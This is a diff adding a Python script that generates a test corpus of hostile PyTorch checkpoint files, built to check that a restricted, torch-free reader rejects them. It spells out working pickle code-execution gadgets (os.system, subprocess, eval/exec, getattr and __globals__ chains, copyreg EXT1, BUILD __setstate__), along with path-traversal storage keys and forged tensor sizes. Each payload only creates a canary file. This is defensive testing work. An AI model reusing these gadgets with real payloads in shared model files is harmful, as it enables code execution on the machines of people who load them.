@@ -1,0 +1,806 @@
+"""Generate the corpus of hostile PyTorch checkpoints that the torch-free reader must refuse.
+
+Every file starts from a real ``torch.save`` of a small state dict; the object pickle is then
+replaced by a hand-assembled one, so each gadget is spelled out opcode by opcode and the
+corpus documents exactly which constructs the restricted unpickler has to reject.
+
+Canary convention: every payload that executes code (if it ever ran) only creates a file named
+``canary`` in the current working directory. Tests run the converter in an empty temporary cwd
+and assert that ``canary`` never appears. Payloads do nothing else.
+
+Usage::
+
+    .venv/bin/python scripts/make_hostile.py [--out fixtures/hostile] [--self-check]
+
+``--self-check`` loads every generated file with plain ``pickle.load`` /
+``torch.load(weights_only=False)`` in a throw-away subprocess and temp cwd, to prove each
+code-execution payload really creates the canary. Tests never run it.
+"""
+
+from __future__ import annotations
+
+import argparse
+import io
+import json
+import os
+import pickle
+import pickletools
+import struct
+import subprocess
+import sys
+import tarfile
+import tempfile
+import time
+import warnings
+import zipfile
+from collections.abc import Callable, Iterable, Mapping, Sequence
+from concurrent.futures import ThreadPoolExecutor
+from dataclasses import dataclass
+from pathlib import Path
+from typing import TypeAlias
+
+import torch
+from torch import nn
+
+REPO = Path(__file__).resolve().parent.parent
+DEFAULT_OUT = REPO / "fixtures" / "hostile"
+
+CANARY = "canary"
+CANARY_SHELL = f"touch {CANARY}"
+CANARY_ARGV = ("touch", CANARY)
+CANARY_SOURCE = f"open({CANARY!r}, 'w').close()"
+# marshal.dumps(compile(CANARY_SOURCE, "<hostile>", "exec")) under CPython 3.11. Kept as a
+# constant so the corpus is byte-identical whichever Python version regenerates it.
+CANARY_CODE_MARSHAL = bytes.fromhex(
+    "630000000000000000000000000400000000000000f34200000097000200650064006401a6020000ab02"
+    "0000000000000000a0010000000000000000000000000000000000000000a6000000ab00000000000000"
+    "00000100640253002903da0663616e617279da01774e2902da046f70656eda05636c6f7365a900f30000"
+    "0000fa093c686f7374696c653efa083c6d6f64756c653e7208000000010000007329000000f003010101"
+    "d80004800480588873d10013d40013d70019d20019d1001bd4001bd0001bd0001bd0001b7206000000"
+)
+
+# The base checkpoint: one float32 tensor of shape (2, 3) in storage key "0".
+NUMEL = 6
+SIZE = (2, 3)
+STRIDE = (3, 1)
+ZIP_ROOT = "archive"
+ZIP_DATE = (1980, 1, 1, 0, 0, 0)
+ZIP_ALIGNMENT = 64  # torch pads local headers so every record starts 64-byte aligned
+SERIALIZATION_ID = b"0" * 40  # torch writes a random id; fixed here for reproducible bytes
+EXT_CODE = 240  # copyreg extension codes 240-255 are reserved for private use
+
+Emit: TypeAlias = Callable[["Pickle"], None]
+Value: TypeAlias = "None | bool | int | str | bytes | tuple[Value, ...] | dict[Value, Value] | Emit"
+
+
+class Pickle:
+    """A pickle stream assembled opcode by opcode, so each gadget reads like its disassembly."""
+
+    def __init__(self, protocol: int) -> None:
+        self._out = bytearray(pickle.PROTO + bytes([protocol]))
+
+    def op(self, opcode: bytes, arg: bytes = b"") -> Pickle:
+        self._out += opcode + arg
+        return self
+
+    def push(self, value: Value) -> Pickle:
+        """Emit opcodes leaving ``value`` on the stack; callables emit themselves (gadgets)."""
+        if callable(value):
+            value(self)
+        elif value is None:
+            self.op(pickle.NONE)
+        elif isinstance(value, bool):
+            self.op(pickle.NEWTRUE if value else pickle.NEWFALSE)
+        elif isinstance(value, int):
+            if -(2**31) <= value < 2**31:
+                self.op(pickle.BININT, struct.pack("<i", value))
+            else:
+                raw = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
+                self.op(pickle.LONG1, bytes([len(raw)]) + raw)
+        elif isinstance(value, str):
+            raw = value.encode()
+            self.op(pickle.BINUNICODE, struct.pack("<I", len(raw)) + raw)
+        elif isinstance(value, bytes):
+            self.op(pickle.BINBYTES, struct.pack("<I", len(value)) + value)
+        elif isinstance(value, tuple):
+            if not value:
+                return self.op(pickle.EMPTY_TUPLE)
+            self.op(pickle.MARK)
+            for item in value:
+                self.push(item)
+            self.op(pickle.TUPLE)
+        elif isinstance(value, dict):
+            self.op(pickle.EMPTY_DICT)
+            if value:
+                self.setitems(value)
+        else:
+            raise TypeError(f"cannot pickle {value!r}")
+        return self
+
+    def setitems(self, items: Mapping[Value, Value]) -> Pickle:
+        self.op(pickle.MARK)
+        for key, item in items.items():
+            self.push(key).push(item)
+        return self.op(pickle.SETITEMS)
+
+    def finish(self) -> bytes:
+        return bytes(self._out + pickle.STOP)
+
+
+def dump(root: Value, protocol: int = 2) -> bytes:
+    """Pickle ``root``; protocol 2 matches what torch.save writes."""
+    return Pickle(protocol).push(root).finish()
+
+
+def glob(module: str, name: str) -> Emit:
+    return lambda p: p.op(pickle.GLOBAL, f"{module}\n{name}\n".encode())
+
+
+def call(func: Value, *args: Value) -> Emit:
+    """``func(*args)`` via REDUCE: the basic code-execution primitive of pickle."""
+    return lambda p: p.push(func).push(args).op(pickle.REDUCE)
+
+
+def attr(obj: Value, name: str) -> Emit:
+    return call(glob("builtins", "getattr"), obj, name)
+
+
+def stack_global(module: str, name: str) -> Emit:
+    return lambda p: p.push(module).push(name).op(pickle.STACK_GLOBAL)
+
+
+def inst(module: str, name: str, *args: Value) -> Emit:
+    def emit(p: Pickle) -> None:
+        p.op(pickle.MARK)
+        for arg in args:
+            p.push(arg)
+        p.op(pickle.INST, f"{module}\n{name}\n".encode())
+
+    return emit
+
+
+def obj(cls: Value, *args: Value) -> Emit:
+    def emit(p: Pickle) -> None:
+        p.op(pickle.MARK).push(cls)
+        for arg in args:
+            p.push(arg)
+        p.op(pickle.OBJ)
+
+    return emit
+
+
+def newobj(cls: Value, args: tuple[Value, ...]) -> Emit:
+    return lambda p: p.push(cls).push(args).op(pickle.NEWOBJ)
+
+
+def newobj_ex(cls: Value, args: tuple[Value, ...], kwargs: dict[Value, Value]) -> Emit:
+    return lambda p: p.push(cls).push(args).push(kwargs).op(pickle.NEWOBJ_EX)
+
+
+def build(target: Value, *states: Value) -> Emit:
+    def emit(p: Pickle) -> None:
+        p.push(target)
+        for state in states:
+            p.push(state).op(pickle.BUILD)
+
+    return emit
+
+
+def ext1(code: int) -> Emit:
+    return lambda p: p.op(pickle.EXT1, bytes([code]))
+
+
+def persid(pid: tuple[Value, ...]) -> Emit:
+    return lambda p: p.push(pid).op(pickle.BINPERSID)
+
+
+def ordered_dict(items: Mapping[Value, Value] | None = None) -> Emit:
+    """``collections.OrderedDict()`` as torch writes it for backward_hooks, optionally filled."""
+    empty = call(glob("collections", "OrderedDict"))
+    if not items:
+        return empty
+    return lambda p: p.push(empty).setitems(items)
+
+
+def tensor(
+    storage: Value,
+    offset: Value = 0,
+    size: Value = SIZE,
+    stride: Value = STRIDE,
+    hooks: Value = None,
+) -> Emit:
+    """``torch._utils._rebuild_tensor_v2`` exactly as torch.save emits it; any argument may be a gadget."""
+    backward_hooks = ordered_dict() if hooks is None else hooks
+    return call(glob("torch._utils", "_rebuild_tensor_v2"), storage, offset, size, stride, False, backward_hooks)
+
+
+@dataclass(frozen=True)
+class Format:
+    """Checkpoint container; the only pickle-level difference is the storage persistent id."""
+
+    name: str  # "zip" or "legacy"
+
+    def storage(self, key: Value = "0", numel: Value = NUMEL, view: Value = None) -> Emit:
+        """Persistent id of a FloatStorage; legacy ids carry a trailing view_metadata field."""
+        pid: tuple[Value, ...] = ("storage", glob("torch", "FloatStorage"), key, "cpu", numel)
+        if self.name == "legacy":
+            pid += (view,)
+        return persid(pid)
+
+
+ZIP = Format("zip")
+LEGACY = Format("legacy")
+ObjectFor: TypeAlias = Callable[[Format], Value]
+
+
+def benign(fmt: Format) -> Value:
+    return {"weight": tensor(fmt.storage())}
+
+
+def beside(gadget: Value) -> ObjectFor:
+    """A valid state dict with the gadget as a second entry, so a reader meets real torch structure first."""
+    return lambda fmt: {"weight": tensor(fmt.storage()), "extra": gadget}
+
+
+def weight(**tensor_args: Value) -> ObjectFor:
+    """A state dict whose only tensor uses forged rebuild arguments."""
+    return lambda fmt: {"weight": tensor(fmt.storage(), **tensor_args)}
+
+
+def weight_storage(**storage_args: Value) -> ObjectFor:
+    """A state dict whose only tensor has a forged storage persistent id."""
+    return lambda fmt: {"weight": tensor(fmt.storage(**storage_args))}
+
+
+OS_SYSTEM = call(glob("os", "system"), CANARY_SHELL)
+UNKNOWN = glob("evil", "Payload")
+
+
+@dataclass(frozen=True)
+class Gadget:
+    """An object pickle written in both zip and legacy form."""
+
+    name: str
+    attack: str
+    canary: bool  # would create the canary under torch.load(weights_only=False)
+    root: ObjectFor
+    protocol: int = 2
+
+
+NO_CANARY = " (no canary by design)"
+
+GADGETS: tuple[Gadget, ...] = (
+    # Direct calls of dangerous globals.
+    Gadget("os_system", "GLOBAL os.system + REDUCE 'touch canary'", True, beside(OS_SYSTEM)),
+    Gadget(
+        "posix_system",
+        "GLOBAL posix.system (os.system under its C module name)",
+        True,
+        beside(call(glob("posix", "system"), CANARY_SHELL)),
+    ),
+    Gadget("os_popen", "os.popen('touch canary')", True, beside(call(glob("os", "popen"), CANARY_SHELL))),
+    Gadget(
+        "subprocess_popen",
+        "subprocess.Popen(('touch', 'canary'))",
+        True,
+        beside(call(glob("subprocess", "Popen"), CANARY_ARGV)),
+    ),
+    Gadget(
+        "subprocess_call",
+        "subprocess.call(('touch', 'canary'))",
+        True,
+        beside(call(glob("subprocess", "call"), CANARY_ARGV)),
+    ),
+    Gadget(
+        "subprocess_check_output",
+        "subprocess.check_output(('touch', 'canary'))",
+        True,
+        beside(call(glob("subprocess", "check_output"), CANARY_ARGV)),
+    ),
+    Gadget(
+        "builtins_eval",
+        "builtins.eval of source that creates canary",
+        True,
+        beside(call(glob("builtins", "eval"), CANARY_SOURCE)),
+    ),
+    Gadget(
+        "builtins_exec",
+        "builtins.exec of source that creates canary",
+        True,
+        beside(call(glob("builtins", "exec"), CANARY_SOURCE)),
+    ),
+    Gadget(
+        "builtins_open",
+        "builtins.open('canary', 'w') creates the file",
+        True,
+        beside(call(glob("builtins", "open"), CANARY, "w")),
+    ),
+    Gadget(
+        "shutil_copyfile",
+        "shutil.copyfile(GLOBAL os.devnull, 'canary'): a non-callable GLOBAL as argument",
+        True,
+        beside(call(glob("shutil", "copyfile"), glob("os", "devnull"), CANARY)),
+    ),
+    Gadget(
+        "runpy_run_code",
+        "runpy._run_code(source, {}) execs source",
+        True,
+        beside(call(glob("runpy", "_run_code"), CANARY_SOURCE, {})),
+    ),
+    # Indirection: the dangerous callable is computed, never named by a GLOBAL.
+    Gadget(
+        "import_getattr",
+        "builtins.getattr(builtins.__import__('os'), 'system')('touch canary')",
+        True,
+        beside(call(attr(call(glob("builtins", "__import__"), "os"), "system"), CANARY_SHELL)),
+    ),
+    Gadget(
+        "importlib_import_module",
+        "builtins.getattr(importlib.import_module('os'), 'system')('touch canary')",
+        True,
+        beside(call(attr(call(glob("importlib", "import_module"), "os"), "system"), CANARY_SHELL)),
+    ),
+    Gadget(
+        "getattr_builtins_module",
+        "builtins.getattr(sys.modules.get('builtins'), 'eval')(source)",
+        True,
+        beside(call(attr(call(attr(glob("sys", "modules"), "get"), "builtins"), "eval"), CANARY_SOURCE)),
+    ),
+    Gadget(
+        "getattr_globals",
+        "getattr chain from allow-listed torch._utils._rebuild_tensor_v2 via __globals__['__builtins__']['exec']",
+        True,
+        beside(
+            call(
+                call(
+                    attr(
+                        call(
+                            attr(attr(glob("torch._utils", "_rebuild_tensor_v2"), "__globals__"), "get"),
+                            "__builtins__",
+                        ),
+                        "get",
+                    ),
+                    "exec",
+                ),
+                CANARY_SOURCE,
+            )
+        ),
+    ),
+    Gadget(
+        "operator_attrgetter",
+        "operator.attrgetter('os.system')(GLOBAL torch.serialization) then call",
+        True,
+        beside(call(call(call(glob("operator", "attrgetter"), "os.system"), glob("torch", "serialization")), CANARY_SHELL)),
+    ),
+    Gadget(
+        "operator_methodcaller",
+        "operator.methodcaller('system', 'touch canary') applied to GLOBAL 'torch.serialization os' (os module under a torch name)",
+        True,
+        beside(call(call(glob("operator", "methodcaller"), "system", CANARY_SHELL), glob("torch.serialization", "os"))),
+    ),
+    Gadget(
+        "functools_partial",
+        "functools.partial(os.system, 'touch canary') then called with ()",
+        True,
+        beside(call(call(glob("functools", "partial"), glob("os", "system"), CANARY_SHELL))),
+    ),
+    Gadget(
+        "types_functiontype",
+        "types.FunctionType(marshal.loads(<CPython 3.11 code object>), {})() (canary on CPython 3.11 only)",
+        True,
+        beside(call(call(glob("types", "FunctionType"), call(glob("marshal", "loads"), CANARY_CODE_MARSHAL), {}))),
+    ),
+    # Other opcodes that resolve or call globals.
+    Gadget(
+        "stack_global",
+        "STACK_GLOBAL 'os' 'system' (protocol 4: names come from the stack, not the opcode)",
+        True,
+        beside(call(stack_global("os", "system"), CANARY_SHELL)),
+        protocol=4,
+    ),
+    Gadget(
+        "ext1_copyreg",
+        "copyreg.add_extension('os', 'system', 240) then EXT1 240 resolves os.system without GLOBAL",
+        True,
+        lambda fmt: {
+            "weight": tensor(fmt.storage()),
+            "register": call(glob("copyreg", "add_extension"), "os", "system", EXT_CODE),
+            "extra": call(ext1(EXT_CODE), CANARY_SHELL),
+        },
+    ),
+    Gadget("inst_os_system", "INST os.system calls it with the marked args", True, beside(inst("os", "system", CANARY_SHELL))),
+    Gadget("obj_os_system", "OBJ on GLOBAL os.system calls it with the marked args", True, beside(obj(glob("os", "system"), CANARY_SHELL))),
+    Gadget(
+        "build_setstate",
+        "backward_hooks OrderedDict gets BUILD {'__setstate__': os.system}, a second BUILD calls it",
+        True,
+        weight(hooks=build(ordered_dict(), {"__setstate__": glob("os", "system")}, CANARY_SHELL)),
+    ),
+    # Gadgets hidden inside the tensor-rebuild structure.
+    Gadget("rebuild_size_gadget", "_rebuild_tensor_v2 size argument is os.system(...)", True, weight(size=OS_SYSTEM)),
+    Gadget(
+        "rebuild_hooks_gadget",
+        "backward_hooks OrderedDict holds os.system(...) as a value",
+        True,
+        weight(hooks=ordered_dict({"hook": OS_SYSTEM})),
+    ),
+    Gadget("persid_gadget", "storage key inside the persistent id is os.system(...)", True, weight_storage(key=OS_SYSTEM)),
+    # Unknown classes: nothing to import, so no canary, but the globals must still be refused.
+    Gadget("inst_unknown", "INST evil.Payload" + NO_CANARY, False, beside(inst("evil", "Payload", CANARY_SHELL))),
+    Gadget("obj_unknown", "OBJ on GLOBAL evil.Payload" + NO_CANARY, False, beside(obj(UNKNOWN, CANARY_SHELL))),
+    Gadget("newobj_unknown", "NEWOBJ of evil.Payload" + NO_CANARY, False, beside(newobj(UNKNOWN, (CANARY_SHELL,)))),
+    Gadget(
+        "newobj_ex_unknown",
+        "NEWOBJ_EX of evil.Payload (protocol 4)" + NO_CANARY,
+        False,
+        beside(newobj_ex(UNKNOWN, (), {"cmd": CANARY_SHELL})),
+        protocol=4,
+    ),
+    Gadget(
+        "build_unknown",
+        "BUILD state onto a NEWOBJ evil.Payload" + NO_CANARY,
+        False,
+        beside(build(newobj(UNKNOWN, ()), {"cmd": CANARY_SHELL})),
+    ),
+    # Storage references that escape or overrun the archive.
+    Gadget("persid_dotdot", "storage key '../../etc/passwd'" + NO_CANARY, False, weight_storage(key="../../etc/passwd")),
+    Gadget("persid_absolute", "storage key '/etc/passwd'" + NO_CANARY, False, weight_storage(key="/etc/passwd")),
+    Gadget("persid_missing", "storage key '7' that the file does not contain" + NO_CANARY, False, weight_storage(key="7")),
+    Gadget("forged_numel", "storage numel 2**40, far beyond its 6-element record" + NO_CANARY, False, weight_storage(numel=2**40)),
+    Gadget("negative_numel", "storage numel -6" + NO_CANARY, False, weight_storage(numel=-NUMEL)),
+    Gadget("negative_offset", "tensor storage_offset -1" + NO_CANARY, False, weight(offset=-1)),
+    Gadget("offset_past_end", "storage_offset 4 with size (2, 3) reads past the 6-element storage" + NO_CANARY, False, weight(offset=4)),
+    Gadget("negative_size", "tensor size (-2, 3)" + NO_CANARY, False, weight(size=(-2, 3))),
+    Gadget("negative_stride", "tensor stride (-3, 1) walks before the storage start" + NO_CANARY, False, weight(stride=(-3, 1))),
+    Gadget("stride_past_end", "tensor stride (100, 1) reaches past the storage end" + NO_CANARY, False, weight(stride=(100, 1))),
+    Gadget(
+        "size_overflow",
+        "size (2**32, 2**32) stride (2**32, 1): extent overflows int64" + NO_CANARY,
+        False,
+        weight(size=(2**32, 2**32), stride=(2**32, 1)),
+    ),
+)
+
+
+@dataclass(frozen=True)
+class TorchBase:
+    """Pieces of real torch.save output that every hostile checkpoint is assembled from."""
+
+    zip_entries: tuple[tuple[str, bytes], ...]  # archive-relative names, in torch's order
+    legacy_magic: bytes
+    legacy_protocol: bytes
+    legacy_sys_info: bytes
+    legacy_keys: bytes
+    legacy_records: bytes  # per storage: int64 element count, then the raw bytes
+
+
+class TinyNet(nn.Module):
+    """Pickled whole: its global is ``__main__.TinyNet``, which no allow-list can contain."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.proj = nn.Linear(3, 2)
+
+
+def base_state() -> dict[str, torch.Tensor]:
+    return {"weight": torch.arange(NUMEL, dtype=torch.float32).reshape(SIZE)}
+
+
+def torch_zip_entries(root: object) -> tuple[tuple[str, bytes], ...]:
+    """torch.save ``root`` and return its records with the random serialization id fixed."""
+    buf = io.BytesIO()
+    torch.save(root, buf)
+    with zipfile.ZipFile(buf) as zf:
+        entries = [(info.filename.split("/", 1)[1], zf.read(info)) for info in zf.infolist()]
+    return tuple((name, SERIALIZATION_ID if name == ".data/serialization_id" else data) for name, data in entries)
+
+
+def split_pickles(stream: io.BytesIO, count: int) -> list[bytes]:
+    """Cut ``count`` consecutive pickles off ``stream`` without unpickling them."""
+    parts = []
+    for _ in range(count):
+        start = stream.tell()
+        for _ in pickletools.genops(stream):
+            pass
+        parts.append(stream.getvalue()[start : stream.tell()])
+    return parts
+
+
+def torch_base() -> TorchBase:
+    legacy = io.BytesIO()
+    torch.save(base_state(), legacy, _use_new_zipfile_serialization=False)
+    legacy.seek(0)
+    # The object pickle and key list name storages by memory address; both are rewritten.
+    magic, protocol, sys_info, _objects, _keys = split_pickles(legacy, 5)
+    records = legacy.read()
+    if struct.unpack_from("<q", records)[0] != NUMEL:
+        raise RuntimeError("unexpected legacy storage layout from torch.save")
+    return TorchBase(
+        zip_entries=torch_zip_entries(base_state()),
+        legacy_magic=magic,
+        legacy_protocol=protocol,
+        legacy_sys_info=sys_info,
+        legacy_keys=pickle.dumps(["0"], protocol=2),
+        legacy_records=records,
+    )
+
+
+def zip_archive(entries: Iterable[tuple[str, bytes]]) -> bytes:
+    """Write records like torch does (stored, 64-byte aligned) but with fixed timestamps."""
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
+        for name, data in entries:
+            info = zipfile.ZipInfo(f"{ZIP_ROOT}/{name}", date_time=ZIP_DATE)
+            info.create_system = 0  # the default depends on the host OS
+            data_start = buf.tell() + 30 + len(info.filename.encode()) + 4
+            pad = -data_start % ZIP_ALIGNMENT
+            info.extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
+            zf.writestr(info, data)
+    return buf.getvalue()
+
+
+def zip_checkpoint(
+    base: TorchBase,
+    data_pkl: bytes,
+    replace: Mapping[str, bytes] | None = None,
+    append: Sequence[tuple[str, bytes]] = (),
+) -> bytes:
+    records = {"data.pkl": data_pkl, **(replace or {})}
+    return zip_archive([(name, records.get(name, data)) for name, data in base.zip_entries] + list(append))
+
+
+def legacy_checkpoint(
+    base: TorchBase,
+    objects: bytes,
+    *,
+    magic: bytes | None = None,
+    sys_info: bytes | None = None,
+    keys: bytes | None = None,
+    records: bytes | None = None,
+) -> bytes:
+    """Magic, protocol, sys_info, object pickle, storage key list, storage records, in torch's order."""
+    return b"".join(
+        (
+            magic or base.legacy_magic,
+            base.legacy_protocol,
+            sys_info or base.legacy_sys_info,
+            objects,
+            keys or base.legacy_keys,
+            records or base.legacy_records,
+        )
+    )
+
+
+def legacy_tar(members: Mapping[str, bytes]) -> bytes:
+    """The pre-1.0 tar checkpoint layout, which torch.load still tries first on legacy files."""
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
+        for name, data in members.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            info.mode = 0o644
+            tar.addfile(info, io.BytesIO(data))
+    return buf.getvalue()
+
+
+@dataclass(frozen=True)
+class Hostile:
+    file: str
+    kind: str  # "zip", "legacy" or "raw-pickle"
+    attack: str
+    canary: bool
+    data: bytes
+
+
+def gadget_files(base: TorchBase) -> list[Hostile]:
+    files = []
+    for gadget in GADGETS:
+        zip_pkl = dump(gadget.root(ZIP), gadget.protocol)
+        legacy_pkl = dump(gadget.root(LEGACY), gadget.protocol)
+        files.append(Hostile(f"zip_{gadget.name}.pt", "zip", gadget.attack, gadget.canary, zip_checkpoint(base, zip_pkl)))
+        files.append(
+            Hostile(f"legacy_{gadget.name}.pt", "legacy", gadget.attack, gadget.canary, legacy_checkpoint(base, legacy_pkl))
+        )
+    return files
+
+
+def pickle_in_storage_files(base: TorchBase) -> list[Hostile]:
+    """A storage record whose bytes are a malicious pickle; it is data and must never be unpickled.
+
+    The reference claims one element more than the record holds, so a correct reader has a
+    structural reason to refuse rather than convert the pickle bytes into a tensor.
+    """
+    payload = dump(OS_SYSTEM)
+    numel = len(payload) // 4 + 1
+    attack = "storage record holds an os.system pickle; numel claims one element past the record end" + NO_CANARY
+
+    def root(fmt: Format) -> Value:
+        return {"weight": tensor(fmt.storage(numel=numel), size=(numel,), stride=(1,))}
+
+    return [
+        Hostile(
+            "zip_pickle_in_storage.pt", "zip", attack, False, zip_checkpoint(base, dump(root(ZIP)), replace={"data/0": payload})
+        ),
+        Hostile(
+            "legacy_pickle_in_storage.pt",
+            "legacy",
+            attack,
+            False,
+            legacy_checkpoint(base, dump(root(LEGACY)), records=struct.pack("<q", numel) + payload),
+        ),
+    ]
+
+
+def container_files(base: TorchBase) -> list[Hostile]:
+    """Attacks on the container rather than the object pickle."""
+    benign_zip = zip_checkpoint(base, dump(benign(ZIP)))
+    benign_legacy = legacy_checkpoint(base, dump(benign(LEGACY)))
+    hostile = dump(OS_SYSTEM)
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", UserWarning)  # zipfile warns about the duplicate name we want
+        duplicate = zip_checkpoint(base, dump(benign(ZIP)), append=[("data.pkl", hostile)])
+    module = TinyNet()
+    with torch.no_grad():
+        module.proj.weight.copy_(torch.arange(NUMEL, dtype=torch.float32).reshape(SIZE))
+        module.proj.bias.zero_()
+    return [
+        Hostile(
+            "zip_duplicate_data_pkl.pt",
+            "zip",
+            "two data.pkl entries: benign first, os.system second (readers disagree which wins)",
+            True,
+            duplicate,
+        ),
+        Hostile(
+            "zip_whole_module.pt",
+            "zip",
+            "whole module pickle: torch.save(nn.Module) needs unknown global __main__.TinyNet" + NO_CANARY,
+            False,
+            zip_archive(torch_zip_entries(module)),
+        ),
+        Hostile("zip_truncated.pt", "zip", "truncated: real checkpoint cut in half" + NO_CANARY, False, benign_zip[: len(benign_zip) // 2]),
+        Hostile(
+            "legacy_truncated.pt",
+            "legacy",
+            "truncated: real checkpoint cut in half" + NO_CANARY,
+            False,
+            benign_legacy[: len(benign_legacy) // 2],
+        ),
+        Hostile(
+            "legacy_magic_gadget.pt",
+            "legacy",
+            "the leading magic-number pickle is os.system(...)",
+            True,
+            legacy_checkpoint(base, dump(benign(LEGACY)), magic=hostile),
+        ),
+        Hostile(
+            "legacy_sys_info_gadget.pt",
+            "legacy",
+            "the sys_info pickle hides os.system(...) in its type_sizes value",
+            True,
+            legacy_checkpoint(
+                base,
+                dump(benign(LEGACY)),
+                sys_info=dump({"protocol_version": 1001, "little_endian": True, "type_sizes": OS_SYSTEM}),
+            ),
+        ),
+        Hostile(
+            "legacy_keys_gadget.pt",
+            "legacy",
+            "the storage-key list pickle after the object pickle is os.system(...)",
+            True,
+            legacy_checkpoint(base, dump(benign(LEGACY)), keys=hostile),
+        ),
+        Hostile(
+            "legacy_view_past_end.pt",
+            "legacy",
+            "legacy view_metadata ('view', 4, 6) slices past the 6-element root storage" + NO_CANARY,
+            False,
+            legacy_checkpoint(base, dump({"weight": tensor(LEGACY.storage(view=("view", 4, NUMEL)))})),
+        ),
+        Hostile(
+            "legacy_tar_os_system.pt",
+            "legacy",
+            "pre-1.0 tar checkpoint whose 'storages' pickle is os.system(...)",
+            True,
+            legacy_tar({"storages": hostile, "tensors": dump(0), "pickle": dump({})}),
+        ),
+    ]
+
+
+def raw_files() -> list[Hostile]:
+    return [
+        Hostile("raw_os_system.pkl", "raw-pickle", "bare pickle: os.system('touch canary')", True, dump(OS_SYSTEM)),
+        Hostile(
+            "raw_builtins_eval.pkl",
+            "raw-pickle",
+            "bare pickle: builtins.eval of source that creates canary",
+            True,
+            dump(call(glob("builtins", "eval"), CANARY_SOURCE)),
+        ),
+    ]
+
+
+def corpus() -> list[Hostile]:
+    base = torch_base()
+    return gadget_files(base) + pickle_in_storage_files(base) + container_files(base) + raw_files()
+
+
+def write_corpus(files: Sequence[Hostile], out: Path) -> None:
+    out.mkdir(parents=True, exist_ok=True)
+    for item in files:
+        (out / item.file).write_bytes(item.data)
+    catalog = [{"file": f.file, "kind": f.kind, "attack": f.attack, "expect": "refused"} for f in files]
+    (out / "catalog.json").write_text(json.dumps(catalog, indent=2) + "\n")
+
+
+# Forged sizes make torch attempt multi-TiB allocations; the address-space cap fails them fast.
+CHILD_PRELUDE = "import resource, sys\nresource.setrlimit(resource.RLIMIT_AS, (8 << 30, 8 << 30))\n"
+TORCH_LOAD = "import torch\ntorch.load(sys.argv[1], weights_only=False)"
+LOADERS = {
+    "raw-pickle": "import pickle\nwith open(sys.argv[1], 'rb') as f:\n    pickle.load(f)",
+    "zip": TORCH_LOAD,
+    "legacy": TORCH_LOAD,
+}
+
+
+def creates_canary(path: Path, kind: str) -> tuple[bool, str]:
+    """Load ``path`` unsafely in a child process inside an empty temp cwd; report canary and outcome."""
+    with tempfile.TemporaryDirectory() as cwd:
+        proc = subprocess.run(
+            [sys.executable, "-c", CHILD_PRELUDE + LOADERS[kind], str(path.resolve())],
+            cwd=cwd,
+            capture_output=True,
+            text=True,
+            timeout=300,
+        )
+        canary = Path(cwd, CANARY)
+        deadline = time.monotonic() + 3  # popen-style payloads finish after the loader exits
+        while not canary.exists() and time.monotonic() < deadline:
+            time.sleep(0.1)
+        lines = proc.stderr.strip().splitlines()
+        outcome = "loaded" if proc.returncode == 0 else (lines[-1][:90] if lines else f"exit {proc.returncode}")
+        return canary.exists(), outcome
+
+
+def check_benign_round_trip(base: TorchBase) -> None:
+    """The assembled containers must be real checkpoints, so hostile files differ only by their gadget."""
+    expected = base_state()["weight"]
+    for name, data in (
+        ("zip", zip_checkpoint(base, dump(benign(ZIP)))),
+        ("legacy", legacy_checkpoint(base, dump(benign(LEGACY)))),
+    ):
+        loaded = torch.load(io.BytesIO(data), weights_only=True)
+        if not torch.equal(loaded["weight"], expected):
+            raise SystemExit(f"benign {name} checkpoint does not round-trip")
+        print(f"benign {name} container round-trips through torch.load(weights_only=True)")
+
+
+def self_check(files: Sequence[Hostile], out: Path) -> int:
+    check_benign_round_trip(torch_base())
+    with ThreadPoolExecutor(max_workers=os.cpu_count() or 1) as pool:
+        results = list(pool.map(lambda f: creates_canary(out / f.file, f.kind), files))
+    failures = 0
+    for item, (canary, outcome) in zip(files, results):
+        ok = canary == item.canary
+        failures += not ok
+        mark = "ok  " if ok else "FAIL"
+        print(f"{mark} canary={'yes' if canary else 'no ':3} expected={'yes' if item.canary else 'no '}  {item.file:38} {outcome}")
+    made = sum(canary for canary, _ in results)
+    print(f"{made} of {len(files)} files created the canary; {sum(f.canary for f in files)} were expected to")
+    return 1 if failures else 0
+
+
+def main() -> int:
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--out", type=Path, default=DEFAULT_OUT, help="output directory (default: fixtures/hostile)")
+    parser.add_argument("--self-check", action="store_true", help="load every file unsafely in a sandboxed temp cwd")
+    args = parser.parse_args()
+    files = corpus()
+    write_corpus(files, args.out)
+    print(f"wrote {len(files)} hostile files and catalog.json to {args.out}")
+    return self_check(files, args.out) if args.self_check else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
